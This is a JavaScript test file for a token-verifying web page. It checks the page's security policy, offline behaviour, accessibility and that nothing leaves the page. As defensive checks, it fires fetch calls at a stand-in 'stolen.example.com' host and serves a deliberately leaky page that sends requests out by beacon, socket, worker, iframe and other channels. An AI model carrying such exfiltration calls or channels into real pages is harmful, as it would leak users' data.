// What the page promises: its policy, its reach, its figures, and that nothing leaves it.
import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import { serve } from '../../runtimes/harness/serve.mjs'
import { BUILT, servePage, TYPES } from '../../../www/serve.mjs'
import { figures } from '../figures.mjs'
import { isOfThisPage } from '../picture.mjs'
import { HS256, POLICY } from '../tokens.mjs'
import { closeOthers } from '../windows.mjs'

/** Of every document that may hold a token. */
const PROMISED = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'self'; worker-src 'self'"

/** Asked for by a check that has a token in the query, and by browsers of themselves. */
const NOT_BY_THE_PAGE = ['/?token=a-session-id', '/favicon.ico']

const script = (body) => ({ body, headers: { 'content-type': 'text/javascript' } })
const asks = (host) => `fetch('https://${host}/').catch(() => {})`
const LEAKS = ['fetch', 'image', 'beacon', 'frame', 'socket', 'worker', 'import', 'shared', 'service'].map((way) => `by-${way}.example.com`).concat('www.google.com')
/** A page without a policy, which asks others in every way there is; one of them is the maker of a browser. */
const LEAKY = {
  '/': {
    headers: { 'content-type': 'text/html' },
    body: `<!doctype html><title>leaky</title><img src="http://by-image.example.com/" alt=""><iframe src="https://by-frame.example.com/"></iframe><script>
      ${asks('by-fetch.example.com')}; ${asks('www.google.com')}
      navigator.sendBeacon('https://by-beacon.example.com/', '')
      new WebSocket('wss://by-socket.example.com/')
      new Worker('/leaky-worker.js')
      new SharedWorker('/leaky-shared.js')
      navigator.serviceWorker.register('/leaky-service.js')</script>`,
  },
  '/leaky-worker.js': script(`${asks('by-worker.example.com')}; importScripts('https://by-import.example.com/x.js')`),
  '/leaky-shared.js': script(asks('by-shared.example.com')),
  '/leaky-service.js': script(asks('by-service.example.com')),
}

export const PROMISES = {
  async 'the pages carry the policy that is promised, and nothing wider'({ open, page, site }) {
    for (const path of ['/', '/speed.html']) {
      await open(site.origin + path)
      assert.equal(await page.script('return document.querySelector("meta[http-equiv]").content'), `${PROMISED}; base-uri 'none'; form-action 'none'`)
    }
  },

  async 'where WebAssembly is forbidden the token is still read, and the page says so'({ open, page }) {
    const site = await servePage({ policy: (text) => text.replace(" 'wasm-unsafe-eval'", '') })
    try {
      await open(site.origin)
      await page.until(page.verdict, ({ state, title }) => state === 'fault' && title === 'wasm_unavailable')
      await page.fill({ token: HS256.token })
      assert.match(await page.text('#parts'), /alice/)
    } finally { site.close() }
  },

  async 'in a folder of any static host it works, and is held by its own policy alone'({ open, page, proxy }) {
    const host = await serve({ folder: join(BUILT, '..'), types: TYPES })
    try {
      await open(`${host.origin}/www/index.html`)
      await page.good()
      await page.click('#forge-none')
      await page.refused('Key', 'alg_not_allowed')
      await page.script('fetch("https://stolen.example.com/").catch(({ name }) => { window.refused = name })')
      await page.until(() => page.script('return window.refused'), (name) => name === 'TypeError')
      assert.deepEqual(proxy.asked(), [])
    } finally { host.close() }
  },

  async 'the speed page measures all three, and draws them with their spread'({ open, page, site }) {
    await open(`${site.origin}/speed.html`)
    await page.click('#measure')
    await page.until(() => page.text('#progress'), (text) => /^(Done|It stopped)/.test(text), 120)
    assert.match(await page.text('#progress'), /^Done/)
    const charts = await page.script(`return [...document.querySelectorAll('.chart')].map((chart) =>
      [chart.querySelectorAll('.spread').length, ...[...chart.querySelectorAll('h2, .figure')].map((part) => part.textContent)])`)
    assert.ok(charts.length >= 4, JSON.stringify(charts))
    assert.match(charts.at(-1)[1], /^Cold start/)
    for (const [spreads, title, ...bars] of charts) {
      assert.deepEqual([spreads, bars.length], [3, 3], title)
      for (const bar of bars) assert.ok(Number.parseFloat(bar) > 0, `${title}: ${bar}`)
    }
  },

  async 'the service worker has everything'({ open, page, site }) {
    await open(site.origin)
    await page.good()
    await page.until(() => page.text('#offline'), (text) => text === ' · works offline')
  },

  async 'a first visit comes to a verdict of few bytes'({ open, page }) {
    const elsewhere = await servePage()
    try {
      const { files, bytes, verdict } = await figures(open, page, elsewhere.origin)
      assert.ok(files > 5 && bytes > 200_000 && bytes < 300_000, `${files} files, ${bytes} bytes`)
      assert.ok(verdict > 0, `a verdict after ${verdict} ms`)
    } finally { elsewhere.close() }
  },

  async 'axe-core finds no violation, and nothing is wider than the window'({ open, page, site, looks }) {
    const require = createRequire(join(BUILT, '../../www/package.json'))
    const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8')
    for (const [name, look] of Object.entries(looks)) {
      await look()
      for (const path of ['/', '/?forged', '/speed.html', '/fetch.html']) {
        await open(site.origin + path.replace('?forged', ''))
        if (path.startsWith('/?') || path === '/') await page.good()
        if (path === '/?forged') {
          await page.click('#forge-claim')
          await page.refused('Signature', 'signature_invalid')
        }
        await page.script(`${axe}; window.axeFound = undefined; axe.run().then((found) => { window.axeFound = found })`)
        const found = await page.until(() => page.script(`return window.axeFound && {
          passes: axeFound.passes.length,
          violations: axeFound.violations.map(({ id, nodes }) => [id, ...nodes.map(({ target }) => String(target))]),
          wider: [document.documentElement.scrollWidth, document.documentElement.clientWidth],
        }`), Boolean)
        assert.ok(found.passes > 8, `only ${found.passes} rules of axe-core passed`)
        assert.deepEqual(found.violations, [], `${name} ${path}`)
        assert.ok(found.wider[0] <= found.wider[1], `${name} ${path}: ${found.wider}`)
      }
    }
  },

  async 'nothing but the files of the page was asked for, and no policy was violated'({ requests, proxy }) {
    const files = new Set(['/', ...readdirSync(BUILT).map((name) => `/${name}`)])
    assert.ok(requests.length > 20, `only ${requests.length} requests were seen`)
    const others = requests.filter(({ method, url }) => method !== 'GET' || !files.has(url))
    assert.deepEqual(others.filter(({ url }) => !NOT_BY_THE_PAGE.includes(url)), [])
    assert.deepEqual(proxy.asked(), [])
  },

  async 'that check can fail: a request is stopped and reported, and one of the second document is seen'({ open, page, site, requests, proxy, command }) {
    await open(site.origin)
    await page.good()
    await page.script('fetch("https://stolen.example.com/").catch(() => {})')
    await page.until(() => requests, (all) => all.some(({ method, url }) => method === 'POST' && url === '/csp-report'))
    assert.deepEqual(proxy.asked(), [])
    // a host of the maker of a browser is not excused
    await page.fill({ 'jwks-url': 'https://fonts.googleapis.com/jwks.json' })
    await page.click('#fetch')
    await page.until(() => proxy.asked(), (asked) => asked.includes('fonts.googleapis.com:443'))
    await closeOthers(command)
  },

  async 'that check can fail: whatever a page, its workers and its service worker send is seen, whoever is asked'({ open, page, proxy }) {
    const site = await serve({ folder: BUILT, pages: LEAKY })
    try {
      await open(site.origin)
      await page.until(() => proxy.asked(), (asked) => LEAKS.every((host) => asked.some((url) => url.includes(host))))
    } finally { site.close() }
  },

  async 'without a network everything still works, and nothing is tried'({ open, page, site, proxy }) {
    const before = proxy.asked().length
    site.close()
    await open('about:blank')
    await open(`${site.origin}/`)
    await page.good()
    await page.click('#forge-claim')
    await page.refused('Signature', 'signature_invalid')
    await page.fill({ algorithm: 'RS256' })
    await page.click('#make')
    await page.until(() => page.text('#maker'), (text) => text.includes('fresh RS256 key'))
    await page.good()
    await page.fill({ token: HS256.token, ...POLICY, scopes: '', key: HS256.key, 'key-algorithm': 'HS256' })
    await page.good()
    await page.click('nav a[href="speed.html"]')
    await page.click('#measure')
    await page.until(() => page.text('#progress'), (text) => /^Done/.test(text), 120)
    assert.equal(proxy.asked().length, before)
  },

  async 'the picture in the README is of this page'() {
    assert.ok(isOfThisPage(), 'the page looks different since its picture was taken; `cargo xtask www --screenshots` takes another')
  },
}
